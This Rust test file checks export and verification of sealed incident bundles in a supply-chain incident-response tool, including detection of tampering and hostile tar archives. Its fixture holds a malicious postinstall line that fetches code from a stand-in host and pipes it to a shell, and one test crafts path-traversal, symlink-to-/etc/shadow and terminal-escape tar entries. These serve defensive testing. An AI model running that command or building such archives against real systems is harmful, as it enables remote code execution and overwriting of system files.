//! Export bundles: a sealed incident round-trips, the bytes are deterministic, and every kind
//! of tampering or hostile tar is caught and named.

use ringfence_incident::bundle::{
    BundleError, BundleInput, BundleLimits, Manifest, VerifyReport, verify_bundle, write_bundle,
};
use ringfence_incident::timeline::sha256_hex;
use ringfence_incident::{
    Change, Event, EventRecord, GENESIS, Incident, IncidentId, IncidentType, ObservableKind, Role,
    Severity, Stage, Timestamp,
};
use time::macros::datetime;

const POSTINSTALL: &[u8] =
    b"require('child_process').exec('curl -s https://exfil.example/x | sh')\n";
const LOCKFILE: &[u8] = b"left-pad-ng@2.3.1: resolved from the public index\n";
const REPORT: &[u8] = b"# Post-incident review INC-7\n\nTokens rotated within 2 hours.\n";

struct Fixture {
    incident: Incident,
    timeline: Vec<EventRecord>,
}

/// A malicious-dependency incident from opening to containment, sealed as the store would.
fn fixture() -> Fixture {
    let t = |minute: u8| {
        datetime!(2026-11-28 09:00 +01:00)
            .replace_minute(minute)
            .unwrap()
    };
    let change_events = vec![
        Change::Opened {
            title: "Malicious release of left-pad-ng".into(),
            kind: IncidentType::MaliciousDependency,
            severity: Some(Severity::Sev1),
            source: "scan --record".into(),
        },
        Change::PackageAffected {
            ecosystem: "npm".into(),
            name: "left-pad-ng".into(),
            version: "2.3.1".into(),
            source: "inspection: malicious".into(),
            detectable_since: Some(Timestamp(datetime!(2026-11-27 22:14 UTC))),
            campaign: vec![],
        },
        Change::CommanderAssigned {
            who: "alice".into(),
        },
        Change::ParticipantAdded {
            who: "bob".into(),
            role: Role::Responder,
        },
        Change::ObservableAdded {
            kind: ObservableKind::Domain,
            value: "exfil.example".into(),
            source: "inspection of left-pad-ng@2.3.1".into(),
        },
        Change::EvidenceAdded {
            sha256: sha256_hex(POSTINSTALL),
            size: POSTINSTALL.len() as u64,
            name: "postinstall.js".into(),
            description: Some("the install script of 2.3.1".into()),
        },
        Change::EvidenceAdded {
            sha256: sha256_hex(LOCKFILE),
            size: LOCKFILE.len() as u64,
            name: "package-lock.json".into(),
            description: None,
        },
        Change::TaskAdded {
            id: 1,
            stage: Stage::Containment,
            title: "Rotate CI tokens".into(),
            owner: Some("bob".into()),
            due: None,
        },
        Change::NoteAdded {
            text: "CI ran the install at 08:41".into(),
        },
        Change::StageAdvanced {
            from: Stage::Identification,
            to: Stage::Containment,
            forced: None,
        },
        Change::TaskDone { id: 1 },
    ];
    let events: Vec<Event> = change_events
        .into_iter()
        .enumerate()
        .map(|(i, change)| Event::new(t(i as u8), if i == 0 { "alice" } else { "bob" }, change))
        .collect();
    let mut prev = GENESIS.to_string();
    let timeline = events
        .iter()
        .enumerate()
        .map(|(i, event)| {
            let record = EventRecord::seal_event("INC-7", i as i64 + 1, event, &prev);
            prev = record.hash.clone();
            record
        })
        .collect();
    let incident = Incident::replay(IncidentId(7), &events).expect("the fixture replays");
    Fixture { incident, timeline }
}

fn input(fx: &Fixture) -> BundleInput<'_> {
    BundleInput {
        incident: &fx.incident,
        timeline: &fx.timeline,
        evidence: vec![
            (sha256_hex(POSTINSTALL), POSTINSTALL.to_vec()),
            (sha256_hex(LOCKFILE), LOCKFILE.to_vec()),
        ],
        reports: vec![("pir.md".into(), REPORT.to_vec())],
        exported_at: Timestamp(datetime!(2026-12-01 10:00 UTC)),
        exported_by: "carol".into(),
    }
}

fn good_bundle() -> Vec<u8> {
    let fx = fixture();
    let mut out = Vec::new();
    write_bundle(&mut out, &input(&fx)).expect("the fixture exports");
    out
}

fn verify(bundle: &[u8]) -> Result<VerifyReport, BundleError> {
    verify_bundle(bundle, &BundleLimits::default())
}

fn problems(bundle: &[u8]) -> Vec<String> {
    let report = verify(bundle).expect("the bundle is readable");
    assert!(!report.ok(), "tampering went unnoticed");
    report.problems
}

#[track_caller]
fn assert_problem(problems: &[String], needle: &str) {
    assert!(
        problems.iter().any(|p| p.contains(needle)),
        "no problem mentions `{needle}`: {problems:#?}"
    );
}

/// The entries of a tar, read in memory.
fn entries(bundle: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = tar::Archive::new(bundle);
    archive
        .entries()
        .unwrap()
        .map(|entry| {
            let mut entry = entry.unwrap();
            let name = String::from_utf8(entry.path_bytes().into_owned()).unwrap();
            let mut data = Vec::new();
            std::io::Read::read_to_end(&mut entry, &mut data).unwrap();
            (name, data)
        })
        .collect()
}

/// A regular-file header with any name at all: `tar::Header::set_path` refuses hostile ones.
fn raw_header(name: &str, kind: tar::EntryType, size: u64) -> tar::Header {
    let mut header = tar::Header::new_ustar();
    header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    header.set_entry_type(kind);
    header.set_size(size);
    header.set_mode(0o644);
    header.set_cksum();
    header
}

fn build(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, data) in entries {
        let header = raw_header(name, tar::EntryType::Regular, data.len() as u64);
        builder.append(&header, &data[..]).unwrap();
    }
    builder.into_inner().unwrap()
}

/// Rewrites the good bundle after `edit` changes its entries.
fn tampered(edit: impl FnOnce(&mut Vec<(String, Vec<u8>)>)) -> Vec<u8> {
    let mut list = entries(&good_bundle());
    edit(&mut list);
    build(&list)
}

/// What a careful forger does after editing `path`: fix its line in the manifest.
fn rehash(list: &mut [(String, Vec<u8>)], path: &str) {
    let bytes = list
        .iter()
        .find(|(name, _)| name == path)
        .unwrap()
        .1
        .clone();
    let manifest_entry = list
        .iter_mut()
        .find(|(name, _)| name == "manifest.json")
        .unwrap();
    let mut manifest: Manifest = serde_json::from_slice(&manifest_entry.1).unwrap();
    let file = manifest.files.iter_mut().find(|f| f.path == path).unwrap();
    file.sha256 = sha256_hex(&bytes);
    file.size = bytes.len() as u64;
    manifest_entry.1 = serde_json::to_vec_pretty(&manifest).unwrap();
}

fn edit_entry(list: &mut [(String, Vec<u8>)], path: &str, edit: impl FnOnce(&mut Vec<u8>)) {
    edit(&mut list.iter_mut().find(|(name, _)| name == path).unwrap().1);
}

fn replace(bytes: &mut Vec<u8>, from: &str, to: &str) {
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.contains(from), "`{from}` is not in the entry");
    *bytes = text.replacen(from, to, 1).into_bytes();
}

#[test]
fn a_sealed_incident_exports_and_verifies() {
    let fx = fixture();
    let mut out = Vec::new();
    let summary = write_bundle(&mut out, &input(&fx)).unwrap();
    assert_eq!(summary.bytes, out.len() as u64);
    assert_eq!(summary.files, 6);
    assert_eq!(summary.manifest_sha256, sha256_hex(&entries(&out)[0].1));

    let report = verify(&out).unwrap();
    assert!(report.ok(), "{:#?}", report.problems);
    assert_eq!(report.incident, "INC-7");
    assert_eq!(report.exported_by, "carol");
    assert_eq!(report.events, 11);
    assert_eq!(report.chain_head, fx.timeline.last().unwrap().hash);
    assert_eq!(report.files, 6);
    assert_eq!(report.evidence, 2);
    assert_eq!(report.manifest_sha256, summary.manifest_sha256);
}

#[test]
fn the_layout_is_fixed_and_the_bytes_deterministic() {
    assert_eq!(good_bundle(), good_bundle());

    let bundle = good_bundle();
    let mut evidence = [sha256_hex(POSTINSTALL), sha256_hex(LOCKFILE)];
    evidence.sort();
    let names: Vec<String> = entries(&bundle).into_iter().map(|(name, _)| name).collect();
    let expected = [
        "manifest.json".to_string(),
        "incident.json".into(),
        "timeline.jsonl".into(),
        format!("evidence/{}", evidence[0]),
        format!("evidence/{}", evidence[1]),
        "reports/pir.md".into(),
    ];
    assert_eq!(names, expected);

    let mut archive = tar::Archive::new(&bundle[..]);
    for entry in archive.entries().unwrap() {
        let header = entry.unwrap().header().clone();
        assert_eq!(header.mode().unwrap(), 0o644);
        assert_eq!((header.uid().unwrap(), header.gid().unwrap()), (0, 0));
        assert_eq!(
            header.mtime().unwrap(),
            datetime!(2026-12-01 10:00 UTC).unix_timestamp() as u64
        );
    }

    let manifest: Manifest = serde_json::from_slice(&entries(&bundle)[0].1).unwrap();
    assert_eq!(manifest.format, "ringfence-incident-bundle");
    assert_eq!(manifest.version, 1);
    assert_eq!(manifest.events, 11);
    let paths: Vec<&str> = manifest.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(
        paths,
        expected[1..].iter().map(String::as_str).collect::<Vec<_>>()
    );
    let lines = String::from_utf8(entries(&bundle)[2].1.clone()).unwrap();
    assert_eq!(lines.lines().count(), 11);
}

#[test]
fn export_refuses_evidence_whose_bytes_are_not_its_hash() {
    let fx = fixture();
    let mut input = input(&fx);
    input.evidence[0].1[0] ^= 1;
    let err = write_bundle(Vec::new(), &input).unwrap_err();
    assert!(
        matches!(err, BundleError::EvidenceHash { ref sha256, .. } if *sha256 == sha256_hex(POSTINSTALL)),
        "{err}"
    );
}

#[test]
fn export_refuses_missing_evidence_and_bad_report_names() {
    let fx = fixture();
    let mut missing = input(&fx);
    missing.evidence.remove(1);
    let err = write_bundle(Vec::new(), &missing).unwrap_err();
    assert!(err.to_string().contains("package-lock.json"), "{err}");

    let mut bad_name = input(&fx);
    bad_name.reports.push(("../escape.md".into(), Vec::new()));
    let err = write_bundle(Vec::new(), &bad_name).unwrap_err();
    assert!(matches!(err, BundleError::ReportName { .. }), "{err}");
}

#[test]
fn export_refuses_an_incident_that_is_not_its_timeline() {
    let mut fx = fixture();
    fx.incident.title = "Something else".into();
    let err = write_bundle(Vec::new(), &input(&fx)).unwrap_err();
    assert!(
        matches!(err, BundleError::NotTheReplay { ref fields } if fields == &["title"]),
        "{err}"
    );

    let mut fx = fixture();
    fx.timeline.remove(3);
    let err = write_bundle(Vec::new(), &input(&fx)).unwrap_err();
    assert!(matches!(err, BundleError::BrokenChain(_)), "{err}");
}

#[test]
fn a_flipped_evidence_byte_is_reported() {
    let sha = sha256_hex(POSTINSTALL);
    let path = format!("evidence/{sha}");
    let bundle = tampered(|list| edit_entry(list, &path, |bytes| bytes[5] ^= 0x20));
    let problems = problems(&bundle);
    assert_problem(&problems, &format!("{path}: content hashes to"));
    assert_problem(&problems, &format!("{path}: sha256"));
}

#[test]
fn an_edited_incident_with_a_rehashed_manifest_is_caught_by_the_replay() {
    let bundle = tampered(|list| {
        edit_entry(list, "incident.json", |bytes| {
            replace(bytes, "\"sev1\"", "\"sev3\"")
        });
        rehash(list, "incident.json");
    });
    let problems = problems(&bundle);
    assert_eq!(problems.len(), 1, "{problems:#?}");
    assert_problem(
        &problems,
        "incident.json: differs from the replay of timeline.jsonl in: severity",
    );
}

#[test]
fn an_edited_timeline_payload_breaks_the_chain() {
    let bundle = tampered(|list| {
        edit_entry(list, "timeline.jsonl", |bytes| {
            replace(bytes, "CI ran the install at 08:41", "nothing ran")
        });
        rehash(list, "timeline.jsonl");
    });
    let problems = problems(&bundle);
    assert_problem(
        &problems,
        "timeline.jsonl: chain INC-7: event 9: its contents do not match its hash",
    );
    assert_problem(
        &problems,
        "incident.json: differs from the replay of timeline.jsonl in: notes",
    );
}

#[test]
fn a_deleted_timeline_line_is_caught() {
    let bundle = tampered(|list| {
        edit_entry(list, "timeline.jsonl", |bytes| {
            let text = String::from_utf8(bytes.clone()).unwrap();
            let kept: Vec<&str> = text
                .lines()
                .enumerate()
                .filter(|(i, _)| *i != 8)
                .map(|(_, l)| l)
                .collect();
            *bytes = format!("{}\n", kept.join("\n")).into_bytes();
        });
        rehash(list, "timeline.jsonl");
    });
    let problems = problems(&bundle);
    assert_problem(
        &problems,
        "timeline.jsonl: chain INC-7: event 10: expected event 9 here",
    );
    assert_problem(
        &problems,
        "manifest.json: says 11 events, timeline.jsonl has 10",
    );
    assert_problem(
        &problems,
        "incident.json: differs from the replay of timeline.jsonl in: events, notes",
    );
}

#[test]
fn an_unparsable_timeline_line_is_named_by_number() {
    let bundle = tampered(|list| {
        edit_entry(list, "timeline.jsonl", |bytes| {
            replace(bytes, "{\"chain\":\"INC-7\",\"seq\":4", "{oops")
        });
        rehash(list, "timeline.jsonl");
    });
    assert_problem(&problems(&bundle), "timeline.jsonl line 4:");
}

#[test]
fn extra_entries_are_reported() {
    let stray = b"not evidence".to_vec();
    let bundle = tampered(|list| {
        list.push(("notes.txt".into(), b"hello".to_vec()));
        list.push((format!("evidence/{}", sha256_hex(&stray)), stray.clone()));
    });
    let problems = problems(&bundle);
    assert_problem(&problems, "notes.txt: not a file a bundle contains");
    assert_problem(
        &problems,
        &format!(
            "evidence/{}: not listed in the manifest",
            sha256_hex(&stray)
        ),
    );
}

#[test]
fn a_dropped_evidence_file_is_reported_twice_over() {
    let path = format!("evidence/{}", sha256_hex(LOCKFILE));
    let bundle = tampered(|list| list.retain(|(name, _)| *name != path));
    let problems = problems(&bundle);
    assert_problem(
        &problems,
        &format!("{path}: listed in the manifest but missing"),
    );
    assert_problem(&problems, "incident.json: references evidence");
    assert_problem(&problems, "package-lock.json");
}

#[test]
fn duplicates_and_a_late_manifest_are_reported() {
    let bundle = tampered(|list| {
        list.swap(0, 1);
        let again = list[0].clone();
        list.push(again);
    });
    let problems = problems(&bundle);
    assert_problem(
        &problems,
        "manifest.json: not the first entry (`incident.json` is)",
    );
    assert_problem(&problems, "incident.json: appears more than once");
}

#[test]
fn a_truncated_tar_is_an_error() {
    let bundle = good_bundle();
    let mut archive = tar::Archive::new(&bundle[..]);
    let mut entries = archive.entries().unwrap();
    let incident = entries.nth(1).unwrap().unwrap().raw_file_position() as usize;
    let evidence = entries.nth(1).unwrap().unwrap().raw_header_position() as usize;
    // Cut inside the incident's data.
    let err = verify(&bundle[..incident + 100]).unwrap_err();
    assert!(
        matches!(err, BundleError::Truncated { ref entry, .. } if entry == "incident.json"),
        "{err}"
    );
    // Cut inside a header.
    let err = verify(&bundle[..evidence + 100]).unwrap_err();
    assert!(
        matches!(err, BundleError::Unreadable { ref after, .. } if after.contains("timeline.jsonl")),
        "{err}"
    );
    // Cut inside the padding after the last report.
    let err = verify(&bundle[..bundle.len() - 1024 - 200]).unwrap_err();
    assert!(matches!(err, BundleError::Unreadable { .. }), "{err}");
}

#[test]
fn a_tar_cut_between_entries_misses_files() {
    let bundle = good_bundle();
    let mut archive = tar::Archive::new(&bundle[..]);
    let fourth = archive
        .entries()
        .unwrap()
        .nth(3)
        .unwrap()
        .unwrap()
        .raw_header_position() as usize;
    let problems = problems(&bundle[..fourth]);
    assert_problem(
        &problems,
        "listed in the manifest but missing from the bundle",
    );
    assert_problem(&problems, "reports/pir.md");
}

#[test]
fn garbage_is_an_error() {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let garbage: Vec<u8> = (0..8192)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect();
    let err = verify(&garbage).unwrap_err();
    assert!(matches!(err, BundleError::Unreadable { .. }), "{err}");
    assert!(matches!(verify(&[]).unwrap_err(), BundleError::NoManifest));
    assert!(matches!(
        verify(&[0; 1024]).unwrap_err(),
        BundleError::NoManifest
    ));
}

#[test]
fn a_bad_manifest_is_an_error() {
    let bundle = tampered(|list| {
        edit_entry(list, "manifest.json", |b| {
            replace(b, "\"version\": 1", "\"version\": 2")
        })
    });
    let err = verify(&bundle).unwrap_err();
    assert!(
        matches!(err, BundleError::BadManifest { .. }) && err.to_string().contains("version 2"),
        "{err}"
    );
    let bundle = tampered(|list| edit_entry(list, "manifest.json", |b| b.truncate(20)));
    assert!(matches!(
        verify(&bundle).unwrap_err(),
        BundleError::BadManifest { .. }
    ));
}

#[test]
fn path_traversal_and_links_are_reported_and_never_extracted() {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, data) in &entries(&good_bundle()) {
        builder
            .append(
                &raw_header(name, tar::EntryType::Regular, data.len() as u64),
                &data[..],
            )
            .unwrap();
    }
    let passwd = b"root:x:0:0::/root:/bin/sh\n";
    builder
        .append(
            &raw_header(
                "../../etc/passwd",
                tar::EntryType::Regular,
                passwd.len() as u64,
            ),
            &passwd[..],
        )
        .unwrap();
    builder
        .append(
            &raw_header("/etc/cron.d/x", tar::EntryType::Regular, 0),
            &[][..],
        )
        .unwrap();
    let mut link = raw_header("reports/link.md", tar::EntryType::Symlink, 0);
    link.set_link_name("/etc/shadow").unwrap();
    link.set_cksum();
    builder.append(&link, &[][..]).unwrap();
    builder
        .append(&raw_header("reports/dev", tar::EntryType::Char, 0), &[][..])
        .unwrap();
    // A terminal escape in a name must not reach the terminal that prints the problem.
    builder
        .append(
            &raw_header("reports/\u{1b}[2Jx", tar::EntryType::Regular, 0),
            &[][..],
        )
        .unwrap();
    let bundle = builder.into_inner().unwrap();

    // verify_bundle takes a reader and holds entries in memory; it has no path to write to.
    let problems = problems(&bundle);
    assert_problem(&problems, "entry `../../etc/passwd`: unsafe name");
    assert_problem(&problems, "entry `/etc/cron.d/x`: unsafe name");
    assert_problem(
        &problems,
        "entry `reports/link.md`: a Symlink entry, not a regular file",
    );
    assert_problem(&problems, "entry `reports/dev`: a Char entry");
    assert_problem(&problems, "entry `reports/\\u{1b}[2Jx`: unsafe name");
    assert!(
        problems.iter().all(|p| !p.contains('\u{1b}')),
        "{problems:#?}"
    );
    assert_eq!(problems.len(), 5, "{problems:#?}");
}

#[test]
fn limits_are_errors_not_crashes() {
    let mut builder = tar::Builder::new(Vec::new());
    // Declares a terabyte, carries nothing: must be refused before any read.
    builder
        .append(
            &raw_header("evidence/huge", tar::EntryType::Regular, 1 << 40),
            &[][..],
        )
        .unwrap();
    let hostile = builder.into_inner().unwrap();
    let tiny = BundleLimits {
        max_entries: 10,
        max_entry_bytes: 1024,
        max_total_bytes: 1 << 20,
    };
    let err = verify_bundle(&hostile[..], &tiny).unwrap_err();
    assert!(
        matches!(err, BundleError::EntryTooLarge { ref entry, size, .. } if entry == "evidence/huge" && size == 1 << 40),
        "{err}"
    );

    let bundle = good_bundle();
    let few = BundleLimits {
        max_entries: 2,
        ..BundleLimits::default()
    };
    assert!(matches!(
        verify_bundle(&bundle[..], &few).unwrap_err(),
        BundleError::TooManyEntries { limit: 2 }
    ));
    let small = BundleLimits {
        max_total_bytes: 4096,
        ..BundleLimits::default()
    };
    assert!(matches!(
        verify_bundle(&bundle[..], &small).unwrap_err(),
        BundleError::TooLarge { limit: 4096 }
    ));
    let exact = BundleLimits {
        max_total_bytes: bundle.len() as u64,
        ..BundleLimits::default()
    };
    assert!(verify_bundle(&bundle[..], &exact).unwrap().ok());
}

/// Merging a scan's resolved versions into a project used to check each against every one
/// before it: a two-megabyte timeline of one project listing 200 000 versions took 40 s to
/// verify (quadratic; a 20 MB bundle took over an hour), and as long again to export.
#[test]
fn a_project_with_a_huge_resolved_list_exports_and_verifies_in_time() {
    const VERSIONS: usize = 100_000;
    let at = datetime!(2026-11-28 09:00 UTC);
    let exposed = |resolved: Vec<String>| Change::ProjectExposed {
        project: "shop".into(),
        lockfile: "shop/package-lock.json".into(),
        resolved,
        commit: None,
    };
    let scanned: Vec<String> = (0..VERSIONS)
        .map(|i| format!("dep-{i}@1.0.0"))
        .chain(["left-pad-ng@2.3.1".into(), "dep-0@1.0.0".into()])
        .collect();
    let opened = Change::Opened {
        title: "Malicious release of left-pad-ng".into(),
        kind: IncidentType::MaliciousDependency,
        severity: None,
        source: "scan --record".into(),
    };
    let events = [
        Event::new(at, "alice", opened),
        Event::new(at, "scan", exposed(vec!["left-pad-ng@2.3.1".into()])),
        Event::new(at, "scan", exposed(scanned)),
    ];
    let mut prev = GENESIS.to_string();
    let timeline: Vec<EventRecord> = events
        .iter()
        .enumerate()
        .map(|(i, event)| {
            let record = EventRecord::seal_event("INC-9", i as i64 + 1, event, &prev);
            prev = record.hash.clone();
            record
        })
        .collect();

    let start = std::time::Instant::now();
    let incident = Incident::replay(IncidentId(9), &events).expect("replays");
    let resolved = &incident.projects[0].resolved;
    assert_eq!(resolved.len(), VERSIONS + 1, "each version once");
    assert_eq!(
        resolved[..2],
        ["left-pad-ng@2.3.1", "dep-0@1.0.0"],
        "in first-seen order"
    );
    let mut bundle = Vec::new();
    write_bundle(
        &mut bundle,
        &BundleInput {
            incident: &incident,
            timeline: &timeline,
            evidence: vec![],
            reports: vec![],
            exported_at: Timestamp(datetime!(2026-12-01 10:00 UTC)),
            exported_by: "carol".into(),
        },
    )
    .expect("exports");
    let report = verify(&bundle).expect("readable");
    assert!(report.ok(), "{:#?}", report.problems);
    let took = start.elapsed();
    // Well under a second in a debug build; the slack is for a busy machine.
    assert!(took < std::time::Duration::from_secs(20), "{took:?}");
}
